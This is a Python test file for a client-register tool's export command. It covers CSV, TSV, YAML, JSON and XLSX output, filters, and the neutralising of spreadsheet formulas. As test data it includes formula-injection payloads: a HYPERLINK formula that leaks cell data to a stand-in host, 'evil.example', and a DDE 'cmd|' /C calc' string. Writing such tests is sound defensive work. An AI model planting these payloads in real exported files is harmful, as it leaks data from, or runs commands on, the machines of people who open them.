"""clientreg export: every format, the filters, and spreadsheet-formula neutralisation."""

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from clientreg.catalogue import Catalogue, add_entry
from clientreg.commands.app import app
from clientreg.editing import set_client_active
from clientreg.model import ClientDraft, ContactDraft
from clientreg.records import iter_client_documents
from clientreg.registration import register_many
from clientreg.schemas.writers import (
    catalogue_documents,
    needs_neutralising,
    neutralise_cell,
    restore_cell,
)
from clientreg.storage import Store, open_database

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _register(store: Store, *drafts: ClientDraft) -> None:
    report = register_many(store, drafts, source="test")
    assert report.ok, report.problems


def _retail(identifier: str, name: str, **fields) -> ClientDraft:
    fields.setdefault("client_attributes", {"region": "south"})
    return ClientDraft(identifier=identifier, name=name, company_type="PERSON",
                       category="RETAIL", **fields)


@pytest.fixture
def clients(catalogue: Store) -> Store:
    """Three clients: two contacts, no contact, and one of another type and category."""
    _register(
        catalogue,
        _retail("C-1", "Comercial Andaluza S.L.", city="Sevilla", country="ES",
                postal_code="08002", phone="+34 954 123 456",
                contacts=[ContactDraft(name="María López", email="maria@andaluza.example",
                                       default=True),
                          ContactDraft(name="Juan Pérez", email="juan@andaluza.example",
                                       language="es")]),
        _retail("C-2", "Eleanor Whitfield", client_attributes={"region": "north"}),
        ClientDraft(identifier="CLI-00001", name="Northbridge Ltd", company_type="LEGAL",
                    category="WHOLESALE", company_attributes={"employees": "64"}),
    )
    return catalogue


def _csv_rows(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream, delimiter=delimiter))


def test_csv_has_one_row_per_contact_with_the_client_repeated(clients, cli, tmp_path):
    target = tmp_path / "out.csv"
    result = cli("export", "-o", str(target))
    assert result.exit_code == 0, result.output
    assert "Exported 3 clients as csv" in result.stderr
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # so Excel reads the accents as UTF-8
    assert b"\r\n" in raw
    header = raw[3:].split(b"\r\n")[0].decode().split(",")
    assert header == [
        "identifier", "name", "company_type", "category", "trade_name", "tax_id", "email",
        "phone", "website", "street", "city", "region", "postal_code", "country",
        "company_attr.employees", "client_attr.region", "contact_name", "contact_email",
        "contact_phone", "contact_position", "contact_department", "contact_language",
        "contact_default",
    ]
    rows = _csv_rows(target)
    assert [(r["identifier"], r["contact_email"]) for r in rows] == [
        ("C-1", "maria@andaluza.example"), ("C-1", "juan@andaluza.example"),
        ("C-2", ""), ("CLI-00001", "")]
    first, second = rows[0], rows[1]
    assert first["name"] == second["name"] == "Comercial Andaluza S.L."
    assert first["postal_code"] == "08002"
    assert first["phone"] == "+34954123456"
    assert (first["contact_default"], second["contact_default"]) == ("true", "")
    assert rows[3]["company_attr.employees"] == "64"


def test_tsv_uses_tabs(clients, cli, tmp_path):
    target = tmp_path / "out.tsv"
    assert cli("export", "-o", str(target)).exit_code == 0
    rows = _csv_rows(target, delimiter="\t")
    assert rows[0]["name"] == "Comercial Andaluza S.L."


def test_yaml_is_a_seed_document_with_the_catalogue(clients, cli):
    result = cli("export", "--format", "yaml")
    assert result.exit_code == 0, result.output
    document = yaml.safe_load(result.stdout)
    assert list(document) == ["company_types", "categories", "clients"]
    assert [t["code"] for t in document["company_types"]] == ["LEGAL", "PERSON", "PUBLIC"]
    assert document["company_types"][0]["id_mask"] == "CLI-{seq:05}"
    assert document["clients"] == list(iter_client_documents(clients))
    assert document["clients"][0]["contacts"][0] == {
        "name": "María López", "email": "maria@andaluza.example", "default": True}


def test_json_is_streamed_as_json_dumps_would_write_it(clients, cli):
    result = cli("export", "--format", "json")
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert result.stdout == json.dumps(document, ensure_ascii=False, indent=2) + "\n"
    assert document["clients"] == list(iter_client_documents(clients))


def test_empty_database_exports_empty_lists(catalogue, cli):
    document = json.loads(cli("export", "--format", "json").stdout)
    assert document["clients"] == []
    assert yaml.safe_load(cli("export").stdout)["clients"] == []


def test_xlsx_keeps_text_as_text(clients, cli, tmp_path):
    target = tmp_path / "out.xlsx"
    result = cli("export", "-o", str(target))
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(target).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["postal_code"] == "08002"
    assert first["phone"] == "+34954123456"
    assert len(rows) == 5


def test_xlsx_to_standard_output_is_a_usage_error(clients, cli):
    result = cli("export", "--format", "xlsx")
    assert result.exit_code == 2
    assert "-o FILE.xlsx" in result.output


def test_filters_match_list(clients, cli):
    set_client_active(clients, "C-2", False, source="test")

    def identifiers(*options: str) -> list[str]:
        result = cli("export", "--format", "json", *options)
        assert result.exit_code == 0, result.output
        return [c["identifier"] for c in json.loads(result.stdout)["clients"]]

    assert identifiers() == ["C-1", "CLI-00001"]
    assert identifiers("--all") == ["C-1", "C-2", "CLI-00001"]
    assert identifiers("--category", "wholesale") == ["CLI-00001"]
    assert identifiers("--type", "PERSON", "--all") == ["C-1", "C-2"]
    assert identifiers("--search", "andalu") == ["C-1"]


def test_inactive_clients_come_back_inactive_from_yaml(clients, cli, tmp_path):
    set_client_active(clients, "C-2", False, source="test")
    exported = tmp_path / "all.yaml"
    assert cli("export", "--all", "-o", str(exported)).exit_code == 0
    result = CliRunner().invoke(app, ["--db", str(tmp_path / "other.db"), "import",
                                      str(exported)])
    assert result.exit_code == 0, result.output
    other = open_database(tmp_path / "other.db")
    states = {c["identifier"]: c.get("active", True)
              for c in iter_client_documents(other, include_inactive=True)}
    other.close()
    assert states == {"C-1": True, "C-2": False, "CLI-00001": True}


def test_a_table_export_says_inactive_clients_lose_their_state(clients, cli, tmp_path):
    set_client_active(clients, "C-2", False, source="test")
    result = cli("export", "--all", "-o", str(tmp_path / "all.csv"))
    assert result.exit_code == 0
    assert "1 of them is inactive" in result.stderr
    assert "inactive" not in cli("export", "-o", str(tmp_path / "active.csv")).stderr


def test_unknown_category_is_rejected_and_writes_no_file(clients, cli, tmp_path):
    target = tmp_path / "out.csv"
    result = cli("export", "--category", "NOPE", "-o", str(target))
    assert result.exit_code == 1
    assert "no category has the code 'NOPE'" in result.stderr
    assert list(tmp_path.glob("*out.csv*")) == []


def test_an_unwritable_file_is_an_environment_error(clients, cli, tmp_path):
    result = cli("export", "-o", str(tmp_path / "missing" / "out.csv"))
    assert result.exit_code == 3
    assert "cannot write" in result.stderr


@pytest.mark.parametrize("text, written", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\tindented", "'\tindented"),
    ("\r=x", "'\r=x"),
    ("'=already protected", "''=already protected"),
    ("+34954123456", "+34954123456"),  # an E.164 phone: a spreadsheet reads a number
    ("-5", "-5"),
    ("-12.50", "-12.50"),
    ("+34954123456;ext=12", "'+34954123456;ext=12"),
    ("Comercial Andaluza", "Comercial Andaluza"),
    ("'quoted", "'quoted"),
    ("", ""),
])
def test_neutralise_cell(text, written):
    assert neutralise_cell(text) == written
    assert restore_cell(written) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r 0123456789.aZ(|"), max_size=8))
def test_restore_cell_undoes_neutralise_cell(text):
    neutral = neutralise_cell(text)
    assert restore_cell(neutral) == text
    assert not needs_neutralising(neutral.removeprefix("'")) or neutral.startswith("'")


def test_csv_cells_that_would_run_get_an_apostrophe(catalogue, cli):
    _register(catalogue, _retail("X-1", HYPERLINK, phone="+34 954 123 456", country="ES"))
    result = cli("export", "--format", "csv")
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["name"] == "'" + HYPERLINK
    assert row["phone"] == "+34954123456"


def test_xlsx_formula_cells_are_text_with_a_quote_prefix(catalogue, cli, tmp_path):
    _register(catalogue, _retail("X-1", HYPERLINK))
    target = tmp_path / "out.xlsx"
    assert cli("export", "-o", str(target)).exit_code == 0
    cell = openpyxl.load_workbook(target).active["B2"]
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"  # a string, never a formula
    assert cell.quotePrefix


def _database_with_catalogue_of(source: Store, path: Path) -> Store:
    """An empty database with the same company types and categories as ``source``."""
    target = open_database(path)
    catalogue = Catalogue.load(source)
    for kind in ("company_type", "category"):
        for entry in catalogue_documents(catalogue, kind):
            add_entry(target, kind, entry, source="test")
    return target


FORMULA_NAMES = [HYPERLINK, "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "'=kept apostrophe",
                 "-5", "'quoted"]


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xlsx"])
def test_formula_names_come_back_unchanged_through_import(catalogue, cli, tmp_path, suffix):
    _register(catalogue, *[_retail(f"F-{n}", name) for n, name in enumerate(FORMULA_NAMES)])
    exported = tmp_path / f"clients{suffix}"
    assert cli("export", "-o", str(exported)).exit_code == 0
    other = _database_with_catalogue_of(catalogue, tmp_path / "other.db")
    result = CliRunner().invoke(app, ["--db", str(tmp_path / "other.db"), "import",
                                      str(exported)])
    assert result.exit_code == 0, result.output
    names = [c["name"] for c in iter_client_documents(other)]
    assert names == FORMULA_NAMES
    other.close()
